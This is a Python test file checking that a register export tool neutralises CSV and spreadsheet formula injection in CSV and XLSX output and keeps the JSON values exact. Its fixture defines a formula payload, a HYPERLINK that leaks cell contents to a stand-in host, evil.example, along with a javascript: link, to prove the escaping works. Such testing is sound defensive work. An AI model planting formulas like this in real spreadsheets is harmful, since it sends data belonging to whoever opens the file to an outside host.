"""Hostile register values in the spreadsheets: nothing may run as a formula (OWASP CSV
injection), nothing may break the file; the JSON keeps the values as they are."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import zipfile
from pathlib import Path

import pytest
from export_registers import free_texts, full_register
from openpyxl import load_workbook

from generator.export import Options, render
from generator.lint.runner import load_register
from generator.load.register import Register
from generator.render.escape import FORMULA_TRIGGERS, csv_cell, formula_like, xlsx_text

PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"clic") '


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Register:
    """Every free text of a full register starts with a formula trigger (each in turn) and
    carries a control character, Markdown and HTML."""
    triggers = itertools.cycle(FORMULA_TRIGGERS)
    reg = load_register(
        full_register(
            tmp_path_factory.mktemp("hostile"),
            lambda s: f"{next(triggers)}{PAYLOAD}{s} <b>|</b> [x](javascript:x)\x07",
        )
    )
    assert reg.ok, [d.text() for d in reg.diagnostics]
    return reg


@pytest.mark.parametrize("text", ["=1+1", "+33 1 23", "-2", "@SUM(A1)", "\tx", "\rx",
                                  " =1", "\u00a0 @SUM(A1)", "\uff1d1+1", " \uff0b1"])
def test_formula_triggers(text: str) -> None:
    assert formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Nom", " Nom", "a=b", "'quoted", "1+1", "É=1", "a\uff1d1"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert not formula_like(text)
    assert csv_cell(text) == text


def test_xlsx_text_drops_what_xml_cannot_hold() -> None:
    assert xlsx_text("a\x00b\x07c\x1fd\ufffee") == "a b c d e"
    assert xlsx_text("tab\tline\nret\r") == "tab\tline\nret\r"


def test_csv_cells_never_start_a_formula(hostile: Register) -> None:
    for per in ("activity", "data-category"):
        data = render(hostile, Options("csv", per=per)).decode()
        rows = list(csv.reader(io.StringIO(data, newline="")))
        assert len({len(r) for r in rows}) == 1, "every row has every column: nothing broke the quoting"
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if formula_like(c)]
        assert sum(c.startswith("'") for c in cells) > 20
        assert any(c.startswith("'=HYPERLINK(") for c in cells)
        assert any(c.startswith("'\tHYPERLINK(") for c in cells)


def test_xlsx_stores_text_never_formulas(hostile: Register, tmp_path: Path) -> None:
    data = render(hostile, Options("xlsx"))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 5
        for name in sheets:
            xml = z.read(name).decode()
            assert not re.search(r"<f[ >]", xml), f"{name} holds a formula"
            assert "\x07" not in xml
    book = load_workbook(io.BytesIO(data))
    looking = [
        c
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and formula_like(c.value)
    ]
    assert len(looking) > 50
    for cell in looking:
        assert cell.data_type == "s", cell.coordinate
        assert cell.quotePrefix, f"{cell.parent.title}!{cell.coordinate} has no quote prefix"
    ordinary = next(
        c
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and not formula_like(c.value)
    )
    assert not ordinary.quotePrefix


def test_xlsx_keeps_every_hostile_text_readable(hostile: Register) -> None:
    book = load_workbook(io.BytesIO(render(hostile, Options("xlsx"))))
    found = "\n".join(
        str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None
    ).replace("\r", "\n")
    sources = [hostile.org, *hostile.activity_data()]
    texts = [t for source in sources for t in free_texts(source)]
    assert len(texts) > 100
    for text in texts:
        assert xlsx_text(text).replace("\r", "\n") in found, text


def test_sheet_names_of_hostile_refs_are_valid(hostile: Register) -> None:
    book = load_workbook(io.BytesIO(render(hostile, Options("xlsx"))))
    for name in book.sheetnames:
        assert not re.search(r"[\[\]:*?/\\]", name) and len(name) <= 31, name


def test_json_keeps_hostile_values_exactly(hostile: Register) -> None:
    doc = json.loads(render(hostile, Options("json")))
    raw = hostile.activity_data()[0]
    assert doc["activities"][0]["name"] == raw["name"]
    assert doc["activities"][0]["name"].startswith(FORMULA_TRIGGERS)
    assert doc["activities"][0]["name"].endswith("\x07")
